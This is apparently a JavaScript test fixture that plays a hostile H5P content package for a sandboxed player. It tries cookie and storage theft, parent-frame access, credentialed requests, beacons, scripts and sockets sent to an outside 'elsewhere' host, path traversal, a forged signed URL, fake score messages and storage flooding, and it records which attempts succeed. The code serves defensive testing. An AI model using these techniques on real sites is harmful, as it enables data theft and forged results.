/*
 * The script of the attack package: tries what a hostile package would try, and notes what it got. Runs in the
 * practice's frame; the test reads `window.probe` there. An entry that is not `null` is a gain.
 */
(() => {
  /** @type {any} */
  const page = window;
  const { H5P } = page;

  /** @type {(attempt: () => unknown) => Promise<string | null>} */
  async function gain(attempt) {
    try {
      const late = new Promise((done) => setTimeout(done, 3000, null));
      const got = await Promise.race([attempt(), late]);
      return got === undefined || got === null || got === '' || got === false
        ? null
        : String(got).slice(0, 200);
    } catch {
      return null;
    }
  }

  const ok = (/** @type {Response} */ response) => (response.ok ? response.text() : null);
  const loaded = (/** @type {HTMLElement & { src: string }} */ element, /** @type {string} */ src) =>
    new Promise((done) => {
      element.onload = () => done('loaded');
      element.onerror = () => done(null);
      element.src = src;
      document.body.append(element);
    });

  /** The browser's own cookie door, whatever stands in front of it. */
  const rawCookie = () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie')?.get?.call(document);

  /** @type {(targets: { elsewhere: string; api: string; page: string; other: string }) => Record<string, () => unknown>} */
  const attempts = ({ elsewhere, api, page: personal, other }) => ({
    cookie: () => document.cookie,
    rawCookie,
    storage: () =>
      Object.getOwnPropertyDescriptor(window, 'localStorage')?.get?.call(window).getItem('geheim'),
    parentText: () => parent.document.body.textContent,
    parentScript: () => /** @type {any} */ (parent).eval('"ran"'),
    fetchApi: () => fetch(api, { credentials: 'include' }).then(ok),
    fetchPage: () => fetch(personal, { credentials: 'include' }).then(ok),
    xhrApi: () =>
      new Promise((done) => {
        const request = new XMLHttpRequest();
        request.open('GET', api);
        request.withCredentials = true;
        request.onload = () => done(request.status === 200 ? request.responseText : null);
        request.onerror = () => done(null);
        request.send();
      }),
    // What these send is seen at the servers, not here.
    post: () =>
      fetch(`${api}/post`, { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' }).then(
        () => null,
      ),
    beaconHome: () => void navigator.sendBeacon(`${api}/beacon`, 'x'),
    beacon: () => void navigator.sendBeacon(`${elsewhere}/beacon`, 'x'),
    image: () => loaded(new Image(), `${elsewhere}/image`).then(() => null),
    imageHome: () => loaded(new Image(), `${api}/image`).then(() => null),
    fetchElsewhere: () => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }).then(() => null),
    script: () => loaded(document.createElement('script'), `${elsewhere}/script`).then(() => null),
    style: () => {
      document.body.insertAdjacentHTML('beforeend', `<link rel="stylesheet" href="${elsewhere}/style">`);
    },
    prefetch: () => {
      document.body.insertAdjacentHTML('beforeend', `<link rel="prefetch" href="${elsewhere}/prefetch">`);
    },
    frame: () => loaded(document.createElement('iframe'), `${elsewhere}/frame`).then(() => null),
    frameHome: () => {
      const inner = document.createElement('iframe');
      return loaded(inner, personal).then(() => inner.contentDocument?.body.textContent);
    },
    peer: () => {
      const inner = document.body.appendChild(document.createElement('iframe'));
      const Peer = page.RTCPeerConnection ?? /** @type {any} */ (inner.contentWindow).RTCPeerConnection;
      return new Peer().connectionState;
    },
    socket: () => void new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`),
    form: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<iframe name="sink"></iframe><form id="attack" method="post" action="${api}/form" target="sink"></form>`,
      );
      /** @type {HTMLFormElement} */ (document.getElementById('attack')).submit();
    },
    popup: () => open('about:blank', '_blank') && 'opened',
    serviceWorker: () => navigator.serviceWorker?.register('/h5p/player/shim.js').then(() => 'registered'),
    otherContent: () => fetch(`${other}/content/content/content.json`).then(ok),
    otherPath: () =>
      fetch(`${page.RueckenwindAttack.own}/content/../../../personal`, { credentials: 'include' }).then(ok),
    otherForged: () => fetch(`${page.RueckenwindAttack.forged}/content/content/content.json`).then(ok),
  });

  /** Messages that pretend: into the page itself, and over the port that this realm shares with our bridge. */
  function forge() {
    for (const data of [
      { type: 'init', protocol: 1, state: '{}', lang: 'de', theme: 'light' },
      { type: 'result', verb: 'completed', raw: 9, max: 9, root: true },
      { kind: 'result', verb: 'completed', raw: 9, max: 9 },
      { type: 'hello', protocol: 1 },
    ]) {
      parent.postMessage(data, '*');
    }
    const say = (/** @type {string} */ verb, /** @type {number} */ raw, /** @type {number} */ max) =>
      page.RueckenwindPlayer.statement({ verb: { id: `http://x/${verb}` }, result: { score: { raw, max } } });
    say('passed', 1, 1);
    say('completed', 5, 3);
    say('completed', -1, 3);
    say('completed', Number.NaN, 3);
    say('completed', 1, 1e9);
    for (let count = 0; count < 500; count += 1) page.RueckenwindPlayer.keep('0', `flood-${count}`, '"x"');
    page.RueckenwindPlayer.keep('0', 'huge', JSON.stringify('x'.repeat(70_000)));
  }

  page.RueckenwindAttack = function Attack(/** @type {any} */ params) {
    H5P.EventDispatcher.call(this);
    this.attach = async (/** @type {any} */ $container) => {
      $container.get(0).textContent = 'Angriff';
      const own = location.pathname.replace(/\/player$/, '');
      const [payload = '', signature] = (own.split('/').pop() ?? '').split('.');
      const [, ...rest] = JSON.parse(atob(payload.replaceAll('-', '+').replaceAll('_', '/')));
      page.RueckenwindAttack.own = own;
      page.RueckenwindAttack.forged = `/h5p/${btoa(JSON.stringify([params.otherId, ...rest])).replace(/=+$/, '')}.${signature}`;
      /** @type {Record<string, string | null>} */
      const report = {};
      for (const [name, attempt] of Object.entries(attempts(params))) report[name] = await gain(attempt);
      forge();
      page.probe = report;
    };
  };
  page.RueckenwindAttack.Probe = page.RueckenwindAttack;
  /** Last of all, because the frame may be gone afterwards. */
  page.probeLeave = (/** @type {string} */ elsewhere) => {
    try {
      /** @type {Window} */ (top).location.href = `${elsewhere}/top`;
    } catch {
      // refused
    }
    setTimeout(() => {
      location.href = `${elsewhere}/self`;
    }, 200);
  };
})();
